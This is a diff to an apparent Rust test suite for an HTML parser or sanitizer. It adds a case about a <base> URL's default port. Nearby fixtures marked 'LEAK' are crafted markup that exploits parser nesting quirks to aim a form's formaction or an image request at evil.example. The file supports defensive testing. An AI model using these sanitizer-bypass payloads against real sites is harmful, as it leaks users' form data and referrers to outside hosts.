@@ -707,6 +707,8 @@ fn hard_cases_match_the_oracle() {
             "<form action=/f><table><td><svg><foreignObject><svg></td><button formaction=https://evil.example/>b</button>"),
         ("LEAK: a second <a> runs the adoption agency's last pass over an HTML annotation-xml after a form: </annotation-xml> then closes nothing, math stays open",
             "<a href=/f><form><annotation-xml encoding=text/html><a href=/x><math></annotation-xml><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("a base's default port is not written: a <frameset> drops the base (whitespace after it reconstructs the <a>), and //host:443/ on an http page is another origin",
+            "<form><base href=HTTPS://WWW.EXAMPLE.COM:443/p><a href=/fmt><frameset><frame></frameset></html> "),
         ("a reconstructed <b> holds math that </b> closes: the CDATA section after it is a bogus comment (the split is accepted)",
             "<i><b></i><math></b><![CDATA[><a href=/x>]]>"),
         ("LEAK: the adoption agency takes an ordinary element before its furthest block off the stack: its end tag from svg closes nothing",
